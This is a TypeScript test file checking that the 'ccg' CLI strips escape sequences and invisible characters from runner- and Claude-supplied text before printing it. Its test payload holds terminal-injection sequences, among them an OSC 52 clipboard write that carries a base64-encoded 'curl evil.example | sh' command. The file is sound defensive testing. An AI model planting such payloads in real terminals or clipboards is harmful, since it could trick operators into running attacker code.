import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CreateRunResponse } from '../../protocol/api.js';
import { STREAM_COMMAND } from '../../protocol/frames.js';
import { runCli } from '../helpers/cli.js';
import { approvalInfo, fakeRunner } from '../helpers/fake-runner.js';
import { startGateway } from '../helpers/gateway.js';
import { waitFor } from '../helpers/processes.js';

/**
 * Everything a hostile runner (or the Claude it runs) controls, filled with what would take over
 * the operator's terminal: an OSC 52 clipboard write, a title change, a screen clear and home, in
 * 7-bit and 8-bit (C1) forms, and a bidi override. Every ccg command that prints such text, human
 * and --json, must print none of it raw: no ESC, no C1 control, no invisible character reaches stdout or stderr.
 */
const EVIL = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]0;pwned\u0007\u001b[2J\u001b[H\u009b2J\u009d0;c1 title\u009c\u202eevil\u0085\u200b\u2060\u00ad\u{e0041}hidden';
const evil = (tag: string) => `${tag}${EVIL}${tag}`;
// Controls, and the invisible characters text can hide behind (a bidi override, a zero-width space, a word joiner, a soft hyphen, a tag character).
const RAW = /[\u001b\u0080-\u009f\u202e\u200b\u2060\u00ad]|\udb40[\udc00-\udc7f]/;

function assertInert(out: string, where: string): void {
  const m = RAW.exec(out);
  assert.equal(m, null, `${where}: a raw control reached the terminal at ${m?.index}: ${JSON.stringify(out.slice(Math.max(0, (m?.index ?? 0) - 40), (m?.index ?? 0) + 40))}`);
}

test('every ccg command that prints runner- or Claude-supplied text prints no ESC, C1 control or invisible character, human or --json', async (t) => {
  const g = await startGateway();
  t.after(() => g.close());
  const created = await runCli(['runs', 'create', '--name', 'hostile', '--json'], g.env);
  assert.equal(created.code, 0, created.stderr);
  const run = JSON.parse(created.stdout) as CreateRunResponse;
  const r = await fakeRunner(g, run.id, run.token, {
    mode: 'claude',
    hello: { hostname: evil('host'), version: evil('v').slice(0, 64), command: ['claude', evil('arg')], cwd: evil('/cwd'), artifactGlobs: [evil('glob')] },
    commands: [
      { name: 'deploy', params: [{ name: 'env', pattern: evil('^') }], timeoutMs: 60_000, description: evil('desc').slice(0, 200) },
      { name: 'hello', params: [], timeoutMs: 60_000, description: evil('hi').slice(0, 200) },
    ],
  });
  t.after(() => r.close());
  await r.events(
    { type: 'claude_text', text: evil('text'), truncated: false, messageId: null, parentToolUseId: null, error: evil('err').slice(0, 200) },
    { type: 'claude_thinking', text: evil('thinking'), parentToolUseId: null } as never,
    { type: 'claude_tool_use', toolUseId: 'toolu_evil', name: evil('tool').slice(0, 200), input: { command: evil('cmd') }, inputTruncated: false, parentToolUseId: null },
    { type: 'claude_tool_result', toolUseId: 'toolu_evil', content: evil('result'), isError: false, truncated: false, chars: 10, parentToolUseId: null } as never,
    { type: 'collect_done', requestId: null, trigger: 'exit', uploaded: [{ name: evil('up'), bytes: 1, truncated: false }], skipped: [{ name: evil('skip'), reason: evil('why') }], error: evil('cerr') },
    { type: 'exec_refused', requestId: 'req_evil_00000001', name: evil('x').slice(0, 64), reason: evil('refused') },
  );
  const hostile = (id: string) =>
    approvalInfo(id, { toolName: evil('T').slice(0, 200), description: evil('d'), input: { command: evil('c'), url: evil('u') }, blockedPath: evil('/p'), rule: { toolName: evil('R'), ruleContent: evil('rc') } });
  await r.events({ type: 'approval_requested', ...hostile('appr_evil_000000001') });
  await r.events({ type: 'approval_requested', ...hostile('appr_evil_000000002') });
  await r.events({ type: 'claude_result', subtype: 'success', isError: false, result: evil('final'), costUsd: 0.01, usage: { inputTokens: 1, outputTokens: 1, cacheReadTokens: 0, cacheCreationTokens: 0 }, numTurns: 1, durationMs: 1, durationApiMs: 1, denials: [], stopReason: null, terminalReason: null, errors: [evil('e')], apiErrorStatus: null } as never);
  await waitFor(() => (g.gw.runs.get(run.id)?.status === 'waiting' ? true : undefined), 10_000, 'run waiting on the approvals');
  // And the run's own output: colours, and everything else.
  await r.output(0, `\u001b[31mred\u001b[0m ${EVIL} tail\n`);
  await r.output(1, `split \u001b]0;ti`);
  await r.output(1, `tle\u0007 done\n`);

  const commands: string[][] = [
    ['runs', 'list'],
    ['runs', 'show', run.id],
    ['runs', 'commands', run.id],
    ['runs', 'approvals', run.id],
    ['runs', 'approvals', run.id, '--all'],
    ['runs', 'events', run.id],
  ];
  let ran = 0;
  for (const argv of commands) {
    for (const json of [false, true]) {
      const res = await runCli(json ? [...argv, '--json'] : argv, g.env);
      assert.equal(res.code, 0, `${argv.join(' ')}${json ? ' --json' : ''}: ${res.stderr}`);
      assertInert(res.stdout, `${argv.join(' ')}${json ? ' --json' : ''}`);
      assertInert(res.stderr, `${argv.join(' ')}${json ? ' --json' : ''} (stderr)`);
      ran++;
    }
  }
  // The words are still there to read (the escapes are gone, not the text around them).
  const shown = await runCli(['runs', 'commands', run.id], g.env);
  assert.match(shown.stdout, /desc.*desc/);
  const json = await runCli(['runs', 'show', run.id, '--json'], g.env);
  assert.equal((JSON.parse(json.stdout) as { run: { runner: { hostname: string } } }).run.runner.hostname, evil('host'), '--json keeps the exact value, escaped as JSON');

  // Answering prints the tool and its input.
  for (const [verb, id, json] of [['approve', 'appr_evil_000000001', false], ['deny', 'appr_evil_000000002', true]] as const) {
    const res = await runCli(['runs', verb, run.id, id, ...(json ? ['--json'] : [])], g.env);
    assert.equal(res.code, 0, res.stderr);
    assertInert(res.stdout, `runs ${verb}`);
    ran++;
  }

  // A command's output on the operator's terminal, and a collection's report, human and --json.
  let lastSeq = 0;
  for (const json of [false, true]) {
    const exec = runCli(['runs', 'exec', run.id, 'hello', '--wait', ...(json ? ['--json'] : [])], g.env, { tty: true });
    const asked = (await r.next('exec')) as { requestId: string };
    await r.events({ type: 'exec_started', requestId: asked.requestId, name: 'hello', params: {} });
    await r.output(STREAM_COMMAND, `\u001b[32mok\u001b[0m ${EVIL}\n`);
    await r.events({ type: 'exec_exit', requestId: asked.requestId, name: 'hello', code: 0, signal: null, timedOut: false, truncated: false, durationMs: 1 });
    const res = await exec;
    assert.equal(res.code, 0, res.stderr);
    assert.match(res.stdout, /ok/);
    assertInert(res.stdout.replace(/\u001b\[[0-9;:]*m/g, ''), `runs exec --wait${json ? ' --json' : ''}`);
    assertInert(res.stderr, `runs exec --wait${json ? ' --json' : ''} (stderr)`);
    // A code no process exits with here is a failure, not 256 % 256 = 0; a character split across
    // two chunks is one character in the JSON.
    const failing = runCli(['runs', 'exec', run.id, 'hello', '--wait', ...(json ? ['--json'] : [])], g.env);
    const again = (await r.next('exec', (m) => (m as { requestId: string }).requestId !== asked.requestId)) as { requestId: string };
    await r.events({ type: 'exec_started', requestId: again.requestId, name: 'hello', params: {} });
    await r.output(STREAM_COMMAND, Buffer.from([0x63, 0x61, 0x66, 0xc3]));
    await r.output(STREAM_COMMAND, Buffer.from([0xa9, 0x0a]));
    await r.events({ type: 'exec_exit', requestId: again.requestId, name: 'hello', code: 256, signal: null, timedOut: false, truncated: false, durationMs: 1 });
    const failed = await failing;
    assert.equal(failed.code, 1, `exit code 256 ${json ? '--json' : ''}`);
    if (json) assert.equal(failed.stdout.split('\n').filter(Boolean).map((l) => (JSON.parse(l) as { text?: string }).text ?? '').join(''), 'café\n');
    const collect = runCli(['runs', 'collect', run.id, '--wait', ...(json ? ['--json'] : [])], g.env);
    const c = (await r.next('collect')) as { requestId: string };
    lastSeq = await r.events({ type: 'collect_done', requestId: c.requestId, trigger: 'request', uploaded: [{ name: evil('up'), bytes: 1, truncated: false }], skipped: [{ name: evil('skip'), reason: evil('why') }], error: null });
    const done = await collect;
    assert.equal(done.code, 0, done.stderr);
    assertInert(done.stdout, `runs collect --wait${json ? ' --json' : ''}`);
    ran += 2;
  }

  // The run ends with the runner's own error text: waiting for it prints the reason.
  r.send({ type: 'exit', code: null, signal: null, lastSeq, error: evil('start failed') });
  for (const json of [false, true]) {
    const res = await runCli(['runs', 'wait', run.id, ...(json ? ['--json'] : [])], g.env);
    assertInert(res.stdout, `runs wait${json ? ' --json' : ''}`);
    assertInert(res.stderr, `runs wait${json ? ' --json' : ''} (stderr)`);
    ran++;
  }
  for (const json of [false, true]) {
    const res = await runCli(['runs', 'list', '--all', ...(json ? ['--json'] : [])], g.env);
    assertInert(res.stdout, 'runs list --all');
  }
  // The run's output stream as JSON lines: the bytes are the runner's, escaped as JSON.
  const logs = await runCli(['runs', 'logs', run.id, '--json'], g.env);
  assertInert(logs.stdout, 'runs logs --json');
  // On a terminal: colours pass, nothing else does (also a title split across two writes).
  const SGR = /\u001b\[[0-9;:]*m/g;
  for (const follow of [false, true]) {
    const onTty = await runCli(['runs', 'logs', run.id, ...(follow ? ['--follow'] : [])], g.env, { tty: true });
    assert.equal(onTty.code, 0, onTty.stderr);
    assert.match(onTty.stdout, /\u001b\[31mred\u001b\[0m/, 'colours kept');
    assertInert(onTty.stdout.replace(SGR, ''), `runs logs${follow ? ' --follow' : ''} on a terminal`);
    assert.match(onTty.stdout, /\ufffdevil\ufffd{4}hidden tail\nsplit  done\n/, 'the text between the escapes stays');
  }
  // Into a pipe or a file, or with --raw: exactly the run's bytes.
  const piped = await runCli(['runs', 'logs', run.id], g.env);
  assert.ok(piped.stdout.includes(EVIL), 'a pipe gets the bytes unchanged');
  const raw = await runCli(['runs', 'logs', run.id, '--raw'], g.env, { tty: true });
  assert.ok(raw.stdout.includes(EVIL), '--raw on a terminal too');
  assert.ok(ran >= 16);
});

test('a signal is a signal name: a runner sending anything else is refused, and one stored by an older gateway is printed inert', async (t) => {
  const g = await startGateway();
  t.after(() => g.close());
  const created = await runCli(['runs', 'create', '--name', 'exits', '--json'], g.env);
  const run = JSON.parse(created.stdout) as CreateRunResponse;
  const r = await fakeRunner(g, run.id, run.token, { mode: 'command' });
  t.after(() => r.close());
  const requestId = 'y4OQm2xT1cR9vKb7Ne3WfA';
  // An exec_exit whose signal is not a name is no event: nothing of it is shown.
  await r.events({ type: 'exec_exit', requestId, name: 'hello', code: null, signal: evil('zq').slice(0, 32), timedOut: false, truncated: false, durationMs: 1 } as never);
  await r.events({ type: 'exec_exit', requestId, name: 'hello', code: null, signal: 'SIGTERM', timedOut: false, truncated: false, durationMs: 2 });
  for (const json of [false, true]) {
    const res = await runCli(['runs', 'events', run.id, ...(json ? ['--json'] : [])], g.env);
    assert.equal(res.code, 0, res.stderr);
    assertInert(res.stdout, `runs events${json ? ' --json' : ''}`);
    assert.match(res.stdout, /SIGTERM/, 'the real one is shown');
    assert.doesNotMatch(res.stdout, /zq/, 'the hostile one is not');
  }
  // An exit whose signal is not a name is refused like any malformed message.
  r.send({ type: 'exit', code: null, signal: evil('zq').slice(0, 32), lastSeq: 2 });
  const refused = await r.next('error');
  assert.equal(refused.code, 'ERR_BAD_FRAME');
  assert.equal(g.gw.runs.get(run.id)?.signal, null);
  // A record an older gateway stored with such a signal: `runs show` prints it inert.
  g.gw.runs.get(run.id)!.signal = evil('zq');
  const shown = await runCli(['runs', 'show', run.id], g.env);
  assert.equal(shown.code, 0, shown.stderr);
  assertInert(shown.stdout, 'runs show');
  assert.match(shown.stdout, /zq.*zq/);
});
